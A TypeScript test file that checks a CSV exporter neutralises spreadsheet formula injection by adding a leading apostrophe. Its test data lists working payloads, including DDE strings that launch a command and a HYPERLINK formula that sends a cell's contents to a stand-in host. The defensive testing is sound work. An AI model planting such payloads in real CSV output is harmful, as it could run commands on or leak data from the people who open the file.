/**
 * CSV cells that a spreadsheet would run as a formula are always neutralised (a leading apostrophe), whatever
 * follows the first character: `-2+3+cmd|' /C calc'!A0` got through the old "minus before a non-number" rule.
 * One shared function (`csvField`) serves `query`, `sparql --format csv` and the CSV graph writer.
 */
import { describe, expect, it } from 'vitest';
import { csvField, csvRecord, neutraliseFormula } from '../../src/util/csv.ts';
import { formatCsv } from '../../src/query/format.ts';
import { renderResult } from '../../src/cli/commands/sparql.ts';

const PAYLOADS: Array<[string, string]> = [
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ['=HYPERLINK("http://x.example/?"&A1,"click")', `'=HYPERLINK("http://x.example/?"&A1,"click")`],
  ['+1+cmd|/C calc', "'+1+cmd|/C calc"],
  ['@SUM(1+1)*cmd|/C calc', "'@SUM(1+1)*cmd|/C calc"],
  ['-1', "'-1"],
  ['-.5e3', "'-.5e3"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  ['Kyiv', 'Kyiv'],
  ['a-b', 'a-b'],
  ['', ''],
];

describe('neutraliseFormula', () => {
  it.each(PAYLOADS)('%j -> %j', (cell, expected) => {
    expect(neutraliseFormula(cell)).toBe(expected);
  });
});

describe('csvField and csvRecord (RFC 4180)', () => {
  it.each([
    ['plain', 'plain'],
    ['with, comma', '"with, comma"'],
    ['with "quotes"', '"with ""quotes"""'],
    ['two\nlines', '"two\nlines"'],
    ["-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
    ['=1,2', `"'=1,2"`],
    ['\r=1', `"'\r=1"`],
  ])('%j -> %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it('numbers, booleans and null are written as values (a negative number stays a number)', () => {
    expect(csvRecord([-2, 3.5, true, null, '-2'])).toBe(`-2,3.5,true,,'-2\r\n`);
  });
});

describe('the CSV of query and sparql', () => {
  it('formatCsv neutralises every payload', () => {
    const csv = formatCsv({ columns: ['name'], rows: PAYLOADS.map(([cell]) => [cell]) });
    const cells = csv.split('\r\n').slice(1, -1);
    for (const cell of cells) expect(cell).not.toMatch(/^"?[=+\-@\t\r]/);
  });

  it('sparql --format csv neutralises a literal that starts with a minus and a digit', () => {
    const csv = renderResult({ kind: 'select', vars: ['label'], bindings: [{ label: { type: 'literal', value: "-2+3+cmd|' /C calc'!A0" } }] }, 'csv');
    expect(csv).toBe(`label\r\n'-2+3+cmd|' /C calc'!A0\r\n`);
  });
});
